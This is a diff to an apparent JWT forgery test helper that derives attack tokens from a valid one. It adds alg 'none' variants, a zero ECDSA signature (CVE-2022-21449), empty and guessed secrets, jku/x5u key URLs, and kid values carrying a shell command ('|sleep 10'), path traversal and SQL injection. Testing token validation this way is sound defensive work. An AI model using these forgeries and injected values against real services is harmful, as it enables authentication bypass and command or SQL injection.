@@ -1,4 +1,4 @@
-"""Forge access tokens out of a good one: RFC 8725's list, and that of jwt_tool.
+"""Forge access tokens out of a good one: RFC 8725's list, and that of jwt_tool 2.2.7.
 
 Its text is run where the service runs, for most forgeries are signed with the right key: `forge` prints a
 JSON object of a name and a token each. What would be the good token again is left out.
@@ -10,6 +10,9 @@ import hmac
 import json
 import time
 from typing import Any
+
+NONE = ("None", "NONE", "nOnE")
+ZEROS = bytes.fromhex("3006020100020100")  # r and s of ECDSA are 0 (CVE-2022-21449)
 
 
 def b64(data: bytes) -> str:
@@ -56,16 +59,24 @@ def forge(good: str) -> dict[str, str]:
     jwk = {"kty": "OKP", "crv": "Ed25519", "x": b64(foreign.public_key().public_bytes_raw())}
     another = said(sub="2", user_id=2)
     hs = {"alg": "HS256"}
+    subject = {"sub", "user_id"} & claims.keys()
     forged = {
         "no algorithm": token(named(alg="none"), claims, ""),
-        "no algorithm, spelled otherwise": token(named(alg="nOnE"), claims, ""),
+        **{f"no algorithm, as {name}": token(named(alg=name), claims, "") for name in NONE},
         "no signature": f"{head}.{body}.",
+        "half a signature": f"{head}.{body}.{signature[: len(signature) // 2]}",
+        "a signature of zeros": token(named(alg="ES256"), claims, b64(ZEROS)),
+        "an empty secret": token(named(**hs), claims, b""),
+        "a secret that is guessed": token(named(**hs), claims, b"secret"),
         "the signature of another token": token(header, another, signature),
         "another user, the signature kept": f"{head}.{b64(json.dumps(another).encode())}.{signature}",
         "a foreign key": token(header, claims, foreign),
         "a foreign key in the header": token(named(jwk=jwk), claims, foreign),
         "an address of keys": token(named(jku="https://keys.example/"), claims, foreign),
+        "an address of certificates": token(named(x5u="https://keys.example/"), claims, foreign),
         "a certificate in the header": token(named(x5c=[b64(b"none")]), claims, foreign),
+        "no key id": token(named(**hs, kid=""), claims, b""),
+        "a key id that is a command": token(named(**hs, kid="|sleep 10"), claims, b""),
         "a key id that is a path": token(named(**hs, kid="../../../dev/null"), claims, b""),
         "a key id that is SQL": token(named(**hs, kid="' UNION SELECT 'k"), claims, b"k"),
         "the public key as a secret": token(named(**hs), claims, pem),
@@ -80,13 +91,12 @@ def forge(good: str) -> dict[str, str]:
         "for nobody": token(header, said("aud")),
         "of another issuer": token(header, said(iss="https://another.example")),
         "of nobody": token(header, said("iss")),
+        "of no subject": token(header, said(*subject)),
+        "of a subject that is true": token(header, said(**dict.fromkeys(subject, True))),
         "another kind": token(named(typ="JWT"), claims),
         "no kind": token({k: v for k, v in header.items() if k != "typ"}, claims),
         "a refresh token": token(named(typ="rt+jwt"), said(kind="refresh")),
+        "an identity token": token(named(typ="JWT"), said(aud="flights", nonce="once")),
     }
-    same = {(b64(json.dumps(header).encode()), b64(json.dumps(claims).encode()))}
-    return {
-        name: each
-        for name, each in forged.items()
-        if tuple(each.split(".")[:2]) not in same or name in ("no signature", "a foreign key")
-    }
+    again = token(header, claims)
+    return {name: each for name, each in forged.items() if each != again}
